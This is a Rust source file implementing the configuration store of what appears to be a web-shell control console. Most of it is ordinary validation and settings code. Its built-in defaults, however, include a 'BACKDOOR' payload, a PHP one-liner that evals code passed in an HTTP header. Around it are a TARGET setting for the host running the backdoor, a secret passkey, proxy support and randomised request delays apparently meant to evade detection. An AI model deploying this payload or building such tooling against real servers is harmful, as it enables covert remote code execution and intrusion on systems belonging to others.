//! Typed configuration store backing the `set` command.
//!
//! Every setting carries a validator that must accept a candidate value
//! before it is committed; rejected assignments leave the prior value
//! intact. Reports render through a per-validator formatter so composite
//! settings (e.g. request intervals) show a human description rather
//! than the raw stored value.

use std::collections::BTreeMap;

use crate::error::ConsoleError;

/// Magic value restoring a setting to its declared default.
pub const DEFAULT_MAGIC: &str = "%%DEFAULT%%";

/// Marker the BACKDOOR payload must embed; the transport substitutes it
/// with the PASSKEY-derived header name.
pub const PASSKEY_MARKER: &str = "%%PASSKEY%%";

/// Uppercase, `-` folded to `_` — the canonical setting name form.
pub fn normalize_name(raw: &str) -> String {
    raw.trim().replace('-', "_").to_ascii_uppercase()
}

fn name_is_legal(name: &str) -> bool {
    let mut chars = name.chars();
    match chars.next() {
        Some(c) if c.is_ascii_uppercase() => {}
        _ => return false,
    }
    chars.all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
}

/// Value discipline attached to a setting. `check` validates and
/// normalizes a candidate; `render` is the human form shown in reports.
#[derive(Debug, Clone)]
pub enum Validator {
    /// Anything goes (plugin-declared settings).
    Any,
    NonEmpty,
    /// TRUE or FALSE, case-insensitive on input.
    Boolean,
    /// An http(s) URL, or the magic string None.
    Url,
    /// Header-safe token: alphanumeric, starting with a letter.
    Token,
    Choice(&'static [&'static str]),
    IntRange { min: i64, max: i64 },
    /// `a-b` float pair, 0 < a <= b. Renders as a range description.
    Interval,
    /// Must contain the given literal marker.
    Embeds(&'static str),
}

impl Validator {
    pub fn check(&self, raw: &str) -> Result<String, String> {
        let raw = raw.trim();
        match self {
            Validator::Any => Ok(raw.to_string()),
            Validator::NonEmpty => {
                if raw.is_empty() {
                    Err("value must not be empty".to_string())
                } else {
                    Ok(raw.to_string())
                }
            }
            Validator::Boolean => match raw.to_ascii_uppercase().as_str() {
                "TRUE" => Ok("TRUE".to_string()),
                "FALSE" => Ok("FALSE".to_string()),
                _ => Err("expected TRUE or FALSE".to_string()),
            },
            Validator::Url => {
                if raw.eq_ignore_ascii_case("none") {
                    Ok("None".to_string())
                } else if raw.starts_with("http://") || raw.starts_with("https://") {
                    Ok(raw.to_string())
                } else {
                    Err("expected an http(s) URL or None".to_string())
                }
            }
            Validator::Token => {
                let mut chars = raw.chars();
                let head_ok = matches!(chars.next(), Some(c) if c.is_ascii_alphabetic());
                if head_ok && chars.all(|c| c.is_ascii_alphanumeric()) {
                    Ok(raw.to_string())
                } else {
                    Err("expected an alphanumeric token starting with a letter".to_string())
                }
            }
            Validator::Choice(options) => {
                let upper = raw.to_ascii_uppercase();
                if options.contains(&upper.as_str()) {
                    Ok(upper)
                } else {
                    Err(format!("expected one of {}", options.join("|")))
                }
            }
            Validator::IntRange { min, max } => match raw.parse::<i64>() {
                Ok(n) if n >= *min && n <= *max => Ok(n.to_string()),
                _ => Err(format!("expected an integer between {min} and {max}")),
            },
            Validator::Interval => match parse_interval(raw) {
                Some((lo, hi)) => Ok(format!("{}-{}", fmt_num(lo), fmt_num(hi))),
                None => Err("expected an interval MIN-MAX with 0 < MIN <= MAX".to_string()),
            },
            Validator::Embeds(marker) => {
                if raw.contains(marker) {
                    Ok(raw.to_string())
                } else {
                    Err(format!("payload must embed {marker}"))
                }
            }
        }
    }

    /// Human rendering of a committed value. Only intervals differ from
    /// the stored form.
    pub fn render(&self, value: &str) -> String {
        match self {
            Validator::Interval => match parse_interval(value) {
                Some((lo, hi)) => format!(
                    "{} <= x <= {} (random interval)",
                    fmt_num(lo),
                    fmt_num(hi)
                ),
                None => value.to_string(),
            },
            _ => value.to_string(),
        }
    }
}

fn parse_interval(raw: &str) -> Option<(f64, f64)> {
    let (lo, hi) = raw.split_once('-')?;
    let lo: f64 = lo.trim().parse().ok()?;
    let hi: f64 = hi.trim().parse().ok()?;
    if lo > 0.0 && lo <= hi {
        Some((lo, hi))
    } else {
        None
    }
}

fn fmt_num(n: f64) -> String {
    if n.fract() == 0.0 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

#[derive(Debug, Clone)]
pub struct Setting {
    pub name: String,
    pub value: String,
    pub default: String,
    pub description: String,
    pub validator: Validator,
}

#[derive(Debug, Default)]
pub struct ConfigStore {
    settings: BTreeMap<String, Setting>,
}

impl ConfigStore {
    /// The store every session starts from.
    pub fn with_builtins() -> Self {
        let home = std::env::var("HOME").unwrap_or_else(|_| ".".to_string());
        let mut store = ConfigStore::default();

        store.declare(
            "VERBOSITY",
            "FALSE",
            "Trace every command dispatch with [#] lines",
            Validator::Boolean,
        );
        store.declare(
            "TARGET",
            "None",
            "Remote target URL hosting the backdoor",
            Validator::Url,
        );
        store.declare(
            "BACKDOOR",
            "@eval($_SERVER['HTTP_%%PASSKEY%%']);",
            "Backdoor payload expected on the target page",
            Validator::Embeds(PASSKEY_MARKER),
        );
        store.declare(
            "PASSKEY",
            "hu5kK3y",
            "Secret token deriving the payload header name",
            Validator::Token,
        );
        store.declare(
            "PROXY",
            "None",
            "Proxy used by the transport layer",
            Validator::Url,
        );
        store.declare(
            "EDITOR",
            "vi",
            "Text editor spawned for multi-line values",
            Validator::NonEmpty,
        );
        store.declare(
            "BROWSER",
            "xdg-open",
            "Browser spawned to preview target pages",
            Validator::NonEmpty,
        );
        store.declare(
            "SAVEPATH",
            &format!("{home}/.config/husk"),
            "Directory receiving saved session files",
            Validator::NonEmpty,
        );
        store.declare(
            "TMPPATH",
            "/tmp",
            "Directory for temporary working files",
            Validator::NonEmpty,
        );
        store.declare(
            "REQ_DEFAULT_METHOD",
            "GET",
            "HTTP method used for payload requests",
            Validator::Choice(&["GET", "POST"]),
        );
        store.declare(
            "REQ_INTERVAL",
            "1-10",
            "Random delay bounds between chained requests",
            Validator::Interval,
        );
        store.declare(
            "REQ_MAX_HEADERS",
            "100",
            "Header count ceiling per payload request",
            Validator::IntRange { min: 10, max: 680 },
        );

        store
    }

    /// Add a setting at initialization time. The default is committed
    /// unvalidated: built-in defaults are correct by construction and
    /// plugin settings declare `Any`. Returns false when the (normalized)
    /// name is illegal or already taken.
    pub fn declare(
        &mut self,
        name: &str,
        default: &str,
        description: &str,
        validator: Validator,
    ) -> bool {
        let name = normalize_name(name);
        if !name_is_legal(&name) || self.settings.contains_key(&name) {
            return false;
        }
        self.settings.insert(
            name.clone(),
            Setting {
                name,
                value: default.to_string(),
                default: default.to_string(),
                description: description.to_string(),
                validator,
            },
        );
        true
    }

    pub fn get(&self, name: &str) -> Result<&Setting, ConsoleError> {
        let name = normalize_name(name);
        self.settings
            .get(&name)
            .ok_or(ConsoleError::UnknownSetting(name))
    }

    pub fn value(&self, name: &str) -> Option<&str> {
        self.settings
            .get(&normalize_name(name))
            .map(|s| s.value.as_str())
    }

    /// TRUE-valued boolean check, used for the VERBOSITY trace gate.
    pub fn is_true(&self, name: &str) -> bool {
        self.value(name) == Some("TRUE")
    }

    /// Validate and commit. On failure the store is unchanged.
    pub fn set(&mut self, name: &str, raw: &str) -> Result<(), ConsoleError> {
        let name = normalize_name(name);
        let setting = self
            .settings
            .get_mut(&name)
            .ok_or_else(|| ConsoleError::UnknownSetting(name.clone()))?;
        let candidate = if raw.trim() == DEFAULT_MAGIC {
            setting.default.clone()
        } else {
            raw.to_string()
        };
        match setting.validator.check(&candidate) {
            Ok(normalized) => {
                setting.value = normalized;
                Ok(())
            }
            Err(reason) => Err(ConsoleError::InvalidValue { name, reason }),
        }
    }

    /// `(Variable, Value)` rows sorted by name, values rendered through
    /// their formatter. `filter` is a name-prefix match.
    pub fn report(&self, filter: Option<&str>) -> Vec<(String, String)> {
        let prefix = filter.map(normalize_name).unwrap_or_default();
        self.settings
            .values()
            .filter(|s| s.name.starts_with(&prefix))
            .map(|s| (s.name.clone(), s.validator.render(&s.value)))
            .collect()
    }

    /// Raw values for session persistence.
    pub fn snapshot(&self) -> BTreeMap<String, String> {
        self.settings
            .values()
            .map(|s| (s.name.clone(), s.value.clone()))
            .collect()
    }

    /// Apply persisted values through the validators, returning one
    /// warning line per rejected entry.
    pub fn restore(&mut self, values: &BTreeMap<String, String>) -> Vec<String> {
        let mut warnings = Vec::new();
        for (name, value) in values {
            if let Err(err) = self.set(name, value) {
                warnings.push(crate::services::report::status(&err));
            }
        }
        warnings
    }
}
